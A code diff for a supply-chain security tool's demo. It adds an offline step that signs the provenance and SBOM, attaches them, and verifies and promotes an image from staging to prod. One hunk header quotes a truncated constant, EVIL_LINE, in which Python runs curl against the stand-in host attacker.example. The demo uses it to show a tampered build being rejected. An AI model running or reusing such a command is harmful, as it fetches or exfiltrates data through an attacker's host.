@@ -53,15 +53,6 @@ const EVIL_LINE: &str = r#"import os; os.system("curl -s https://attacker.exampl
 /// an SPDX SBOM with at least one package and no denied one.
 const POLICY: &str = include_str!("../../../../examples/demo/policy.yaml");
 
-/// What the demo cannot run offline: signing into Sigstore bundles needs Rekor or a TSA.
-const OPEN_THE_GATE: &[&str] = &[
-    "cairn attest provenance.json --type slsa --subject oci:staging:1.0 --key keys/carol --tlog-upload --bundle provenance.sigstore.json",
-    "cairn attest sbom.spdx.json --type spdx --subject oci:staging:1.0 --key keys/carol --tlog-upload --bundle sbom.sigstore.json",
-    "cairn attach oci:staging:1.0 --bundle provenance.sigstore.json --bundle sbom.sigstore.json",
-    "cairn verify image oci:staging:1.0 --policy policy.yaml",
-    "cairn promote oci:staging:1.0 oci:prod:1.0 --policy policy.yaml",
-];
-
 /// `demo` arguments.
 ///
 /// Example: cairn demo --keep
@@ -93,6 +84,8 @@ struct Runner<'a> {
     section: &'static str,
     /// Colour the transcript: the context allows it and stdout is a terminal.
     color: bool,
+    /// The digest promoted to prod:1.0, once it was.
+    promoted: Option<String>,
 }
 
 /// Quotes `arg` for a POSIX shell when it needs it.
@@ -227,6 +220,7 @@ impl DemoArgs {
             ran: Vec::new(),
             section: "",
             color: ctx.color && std::io::IsTerminal::is_terminal(&std::io::stdout()),
+            promoted: None,
         };
         ctx.out(format!(
             "cairn demo: a signed, verified supply chain for a small project, in {}",
@@ -547,11 +541,18 @@ fn script(r: &mut Runner<'_>) -> anyhow::Result<()> {
     r.note("the verdict names the file, the step that changed it and both digests")?;
 
     r.heading(
-        "promote",
+        "gate",
         "7. The release gate: a policy, and promotion between two OCI layouts",
     )?;
     write(&r.path("policy.yaml"), POLICY.as_bytes())?;
-    r.shell("cat > policy.yaml <<'EOF' ... EOF   # shown below")?;
+    r.ctx.out(r.paint(
+        "$ cat > policy.yaml <<'EOF' ... EOF   # shown below",
+        "1;36",
+    ))?;
+    r.ran.push((
+        r.section,
+        "cp examples/demo/policy.yaml policy.yaml   # the policy shown above".to_string(),
+    ));
     for line in POLICY.lines() {
         r.ctx.out(format!("    {line}"))?;
     }
@@ -577,11 +578,93 @@ fn script(r: &mut Runner<'_>) -> anyhow::Result<()> {
         anyhow::bail!("the refused promotion tagged prod:1.0");
     }
     r.note("nothing was copied: prod/ has no 1.0 tag")?;
-    r.note(
-        "signing the provenance and SBOM (cairn attest) needs a transparency log or an RFC 3161 \
-         timestamp authority, which this offline demo does not have: the summary shows the \
-         commands that open the gate",
+
+    r.heading(
+        "sign and promote",
+        "8. Sign the provenance and SBOM, attach them to the image, promote",
     )?;
+    r.note(
+        "carol signs both statements about the image's digest with her key (offline: no \
+         transparency log, which the policy accepts for her key only)",
+    )?;
+    for (file, kind, bundle) in [
+        ("provenance.json", "slsa", "provenance.sigstore.json"),
+        ("sbom.spdx.json", "spdx", "sbom.sigstore.json"),
+    ] {
+        r.cairn(
+            None,
+            &[
+                "attest",
+                file,
+                "--type",
+                kind,
+                "--subject",
+                "oci:staging:1.0",
+                "--key",
+                "keys/carol",
+                "--bundle",
+                bundle,
+            ],
+            Pass,
+        )?;
+    }
+    r.cairn(
+        None,
+        &[
+            "attach",
+            "oci:staging:1.0",
+            "--bundle",
+            "provenance.sigstore.json",
+            "--bundle",
+            "sbom.sigstore.json",
+        ],
+        Pass,
+    )?;
+    r.cairn(
+        None,
+        &[
+            "verify",
+            "image",
+            "oci:staging:1.0",
+            "--policy",
+            "policy.yaml",
+        ],
+        Pass,
+    )?;
+    r.cairn(
+        None,
+        &[
+            "promote",
+            "oci:staging:1.0",
+            "oci:prod:1.0",
+            "--policy",
+            "policy.yaml",
+        ],
+        Pass,
+    )?;
+    let prod = Layout::open(r.path("prod"))?;
+    let promoted = cairn_oci::resolve(
+        &prod,
+        &cairn_oci::Reference::Tag("1.0".into()),
+        &cairn_oci::PlatformSelection::All,
+    )
+    .context("the promotion reported success, but prod/ has no 1.0 tag")?;
+    if promoted.digest().to_string() != digest {
+        anyhow::bail!(
+            "prod:1.0 is {}, not the verified digest {digest}",
+            promoted.digest()
+        );
+    }
+    r.note(&format!(
+        "prod:1.0 is {digest}, the digest that was verified; the signed attestations came along \
+         (a later gate can verify prod on its own):"
+    ))?;
+    let listed = r.cairn(None, &["attestations", "oci:prod:1.0"], Pass)?;
+    let text = String::from_utf8_lossy(&listed.stdout);
+    if !(text.contains(&digest) && text.contains("slsa.dev/provenance") && text.contains("spdx")) {
+        anyhow::bail!("prod:1.0 does not list the promoted image's provenance and SBOM");
+    }
+    r.promoted = Some(digest);
     Ok(())
 }
 
@@ -609,6 +692,11 @@ fn summary(r: &Runner<'_>, root: &Path, kept: bool) -> anyhow::Result<()> {
     ctx.out("  pass  the honest build verifies against the owner's signed layout")?;
     ctx.out("  FAIL  the tampered build is rejected, naming the changed file (as expected)")?;
     ctx.out("  FAIL  the image without signed attestations is not promoted (as expected)")?;
+    if let Some(d) = &r.promoted {
+        ctx.out(format!(
+            "  pass  the image with carol's signed provenance and SBOM is promoted: prod:1.0 = {d}"
+        ))?;
+    }
     ctx.out("")?;
     ctx.out("Repeat it by hand (POSIX sh, `cairn` on your PATH) in an empty directory, after")?;
     ctx.out("`mkdir upstream && cp -R examples/demo/project upstream/hello-1.0`:")?;
@@ -621,11 +709,11 @@ fn summary(r: &Runner<'_>, root: &Path, kept: bool) -> anyhow::Result<()> {
         ctx.out(format!("  {shown}"))?;
     }
     ctx.out("")?;
-    ctx.out("To open the gate, sign the provenance and SBOM about the image with a transparency")?;
-    ctx.out("log (a key and --tlog-upload here, keyless in CI), attach them, and promote:")?;
-    for line in OPEN_THE_GATE {
-        ctx.out(format!("  {line}"))?;
-    }
+    ctx.out("In CI, sign with the job's identity instead of a key file (cairn attest --keyless:")?;
+    ctx.out(
+        "Fulcio certificate, Rekor entry) and drop `transparencyLog: optional` from the policy;",
+    )?;
+    ctx.out("the GitHub Action and GitLab template do that (docs/guides/).")?;
     ctx.out("")?;
     if kept {
         ctx.out(format!("Everything it wrote is in {}", root.display()))?;
